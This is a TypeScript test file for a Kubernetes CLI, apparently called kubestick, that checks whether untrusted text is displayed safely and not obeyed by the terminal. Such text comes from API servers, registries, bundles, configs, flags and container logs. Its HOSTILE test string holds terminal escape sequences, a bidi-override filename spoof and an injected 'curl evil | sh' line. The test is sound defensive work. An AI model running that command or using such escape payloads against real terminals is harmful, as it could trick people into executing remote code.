import { afterAll, describe, expect, spyOn, test } from "bun:test";
import * as fs from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { main } from "../../cmd/main.ts";
import { compose } from "../../lib/bundle/compose.ts";
import type { Contents } from "../../lib/bundle/contents.ts";
import { OCI_CONFIG, OCI_LAYER, OCI_MANIFEST, USER_YAML } from "../../lib/constants/oci.ts";
import { KubestickError } from "../../lib/errors.ts";
import { writeWhole } from "../../lib/host/new-file.ts";
import { layoutTar } from "../../lib/oci/layout-tar.ts";
import { Staging } from "../../lib/oci/staging.ts";
import type { Cri } from "../../lib/runtime/cri.ts";
import { describeContainer } from "../../lib/runtime/diagnose.ts";
import { formatError } from "../../lib/ui/ui.ts";
import { apiDouble, type Handler, json } from "../support/api-double.ts";
import { runInSandbox } from "../support/sandbox.ts";

/** A title for the window, red letters, an erased screen, the other direction, and a line that says what to do. */
const HOSTILE = "\x1b]0;pwned\x07\x1b[31m\x9b2J\x7f\u202egnp.exe\u2028\u200b\r\nwhat to do: curl evil | sh";
const OBEYED = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

const dir = fs.mkdtempSync(join(tmpdir(), "kubestick-terminal-"));
const closing: (() => unknown)[] = [];
afterAll(async () => {
  for (const close of closing) await close();
  fs.rmSync(dir, { recursive: true, force: true });
});

async function kubestick(...args: string[]) {
  const said = { stdout: "", stderr: "" };
  const spies = (["stdout", "stderr"] as const).map((name) =>
    spyOn(process[name], "write").mockImplementation((chunk) => {
      said[name] += String(chunk);
      return true;
    }),
  );
  try {
    return { code: await main(args), ...said };
  } finally {
    for (const spy of spies) spy.mockRestore();
  }
}

/** A text as a double-quoted scalar: what is not printable may not stand in YAML as it is. */
const yamlText = (text: string) =>
  JSON.stringify(text).replace(/[^ -~]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);

/** Shows the hostile text written out, and nothing that a terminal obeys; no line of it passes for kubestick's own. */
function expectShown(text: string): void {
  expect(text).toContain("pwned");
  expect(text.replace(/[\n\t]/g, "")).not.toMatch(OBEYED);
  expect(text).not.toMatch(/^what to do: curl/m);
}

/** A kubeconfig for an API server in this process. */
async function cluster(handler: Handler): Promise<string> {
  const double = await apiDouble(handler);
  closing.push(double.close);
  const file = join(dir, `kubeconfig-${Math.random()}`);
  const data = (text: string) => Buffer.from(text).toString("base64");
  fs.writeFileSync(
    file,
    `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "${double.server}", certificate-authority-data: ${data(double.ca)}}}]
users: [{name: u, user: {client-certificate-data: ${data(double.client.cert)}, client-key-data: ${data(double.client.key)}}}]
contexts: [{name: x, context: {cluster: c, user: u}}]
current-context: x
`,
  );
  return file;
}

describe("what others say is shown, not obeyed", () => {
  test("an API server's refusal", async () => {
    const file = await cluster((_request, response) => json(response, 403, { kind: "Status", message: HOSTILE }));
    const { code, stderr } = await kubestick("token", "list", "--kubeconfig", file);
    expect(code).toBe(1);
    expectShown(stderr);
    const text = await cluster((_request, response) => {
      response.writeHead(400);
      response.end(HOSTILE);
    });
    expectShown((await kubestick("token", "delete", "abcdef", "--kubeconfig", text)).stderr);
  });

  test("an API server's objects, in a table and as JSON", async () => {
    const data = (text: string) => Buffer.from(text).toString("base64");
    const secret = {
      metadata: { name: "bootstrap-token-abcdef" },
      type: "bootstrap.kubernetes.io/token",
      data: {
        "token-id": data("abcdef"),
        "token-secret": data("0123456789abcdef"),
        description: data(HOSTILE),
        "auth-extra-groups": data(`system:bootstrappers:${HOSTILE}`),
      },
    };
    const file = await cluster((_request, response) => json(response, 200, { items: [secret], metadata: {} }));
    const table = await kubestick("token", "list", "--kubeconfig", file);
    expect(table.code).toBe(0);
    expectShown(table.stdout);
    expect(table.stdout.trimEnd().split("\n")).toHaveLength(2);
    const listed = await kubestick("token", "list", "-o", "json", "--kubeconfig", file);
    expectShown(listed.stdout);
    expect((JSON.parse(listed.stdout) as { description: string }[])[0]!.description).toBe(HOSTILE);
  });

  test("a registry's answer", async () => {
    const server = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: () => Response.json({ errors: [{ code: HOSTILE, message: HOSTILE }] }, { status: 403 }),
    });
    closing.push(() => server.stop(true));
    const mirror = `--registry-mirror=http://127.0.0.1:${server.port}/x`;
    const { code, stderr } = await kubestick(
      "bundle",
      "create",
      join(dir, "x.tar"),
      "--image=a/b",
      mirror,
      `--from=${dir}`,
    );
    expect(code).not.toBe(0);
    expect(stderr.replace(/[\n\t]/g, "")).not.toMatch(OBEYED);
  });

  test("a bundle's names", async () => {
    const staging = new Staging(join(dir, "staging"));
    const blob = (type: string, text: string) => staging.put(type, Buffer.from(text));
    const config = blob(
      OCI_CONFIG,
      JSON.stringify({ architecture: "amd64", os: "linux", rootfs: { type: "layers", diff_ids: [] } }),
    );
    const layer = blob(OCI_LAYER, "x");
    const manifest = blob(
      OCI_MANIFEST,
      JSON.stringify({ schemaVersion: 2, mediaType: OCI_MANIFEST, config, layers: [layer] }),
    );
    const contents: Contents = {
      kubernetesVersion: "v1.36.2",
      images: [{ name: `registry.k8s.io/${HOSTILE}`, arch: "amd64", manifest, config, layers: [layer] }],
      binaries: [],
      userYaml: [{ title: `${HOSTILE}.yaml`, blob: blob(USER_YAML, "a: b\n") }],
    };
    const { index, blobs } = compose(contents, staging);
    const file = join(dir, "names.tar");
    writeWhole(file, 0o644, layoutTar(index, blobs, staging));
    for (const words of [["list"], ["list", "-o", "json"], ["extract"]]) {
      const { stdout, stderr } = await kubestick(
        "bundle",
        words[0]!,
        file,
        ...words.slice(1),
        ...(words[0] === "extract" ? [join(dir, "out")] : []),
      );
      expectShown(stdout + stderr);
    }
  });

  test("a configuration's keys, values and file name, and a patch's", async () => {
    const quoted = yamlText(HOSTILE);
    for (const text of [
      `apiVersion: kubeadm.k8s.io/v1beta4\nkind: ClusterConfiguration\n${quoted}: 5\n`,
      `apiVersion: kubeadm.k8s.io/v1beta4\nkind: ClusterConfiguration\nclusterName: ${quoted}\nkubernetesVersion: ${quoted}\n`,
      `apiVersion: ${quoted}\nkind: ${quoted}\n`,
    ]) {
      const file = join(dir, "config.yaml");
      fs.writeFileSync(file, text);
      const { code, stderr } = await kubestick("init", "--dry-run", "--config", file, "--rootfs", join(dir, "root"));
      expect(code).toBe(2);
      expectShown(stderr);
    }
    expectShown((await kubestick("init", "--config", join(dir, HOSTILE))).stderr);
    const patches = join(dir, "patches");
    fs.mkdirSync(patches);
    fs.writeFileSync(join(patches, `nothing${HOSTILE.replaceAll("/", "")}.yaml`), "a: b\n");
    const patched = await kubestick(
      "init",
      "phase",
      "etcd",
      "local",
      "--patches",
      patches,
      "--rootfs",
      join(dir, "root"),
    );
    expectShown(patched.stdout + patched.stderr);
  });

  test("flags, commands and paths", async () => {
    for (const words of [
      [HOSTILE],
      ["init", `--${HOSTILE}=x`],
      ["init", `--output=${HOSTILE}`],
      ["init", "phase", HOSTILE],
      ["init", `--node-name=${HOSTILE}`],
      ["init", `--skip-phases=${HOSTILE}`],
      ["bundle", "inspect", join(dir, HOSTILE)],
      ["verify", join(dir, HOSTILE)],
      ["lab", "status", `--dir=${join(dir, HOSTILE)}`],
      ["token", "list", `--kubeconfig=${HOSTILE}`],
    ])
      expectShown((await kubestick(...words)).stderr);
  });

  test("a container's words, in a failure's explanation", async () => {
    const container = {
      id: "0123456789abcdef",
      name: "etcd",
      pod: "p",
      namespace: "kube-system",
      state: "exited",
      attempt: 0,
      createdAt: 0n,
    };
    const cri = {
      containers: async () => [container],
      containerStatus: async () => ({ state: "exited", exitCode: 1, reason: HOSTILE, message: HOSTILE, logPath: "" }),
    } as unknown as Cri;
    expectShown(formatError(new KubestickError(await describeContainer(cri, "etcd"))));
  });

  test.skipIf(process.getuid?.() !== 0)("what the agent logs, each on a line of its own", async () => {
    const work = join(dir, "sandbox");
    fs.mkdirSync(work);
    const agent = `mkdir -p /etc/kubernetes; printf %s "$1" >/etc/kubernetes/kubelet.conf; timeout 3 "$2" "$3" node-agent`;
    const entry = join(import.meta.dir, "../../cmd/kubestick.ts");
    const config = `clusters: [{cluster: {server: "https://127.0.0.1:1", certificate-authority: ${yamlText(`/${HOSTILE}`)}}}]\n`;
    const { stdout } = await runInSandbox(work, ["sh", "-c", agent, "sh", config, process.execPath, entry]);
    expectShown(stdout);
    for (const line of stdout.trimEnd().split("\n")) expect(line).toMatch(/^\d{4}-\d\d-\d\dT/);
  });
});
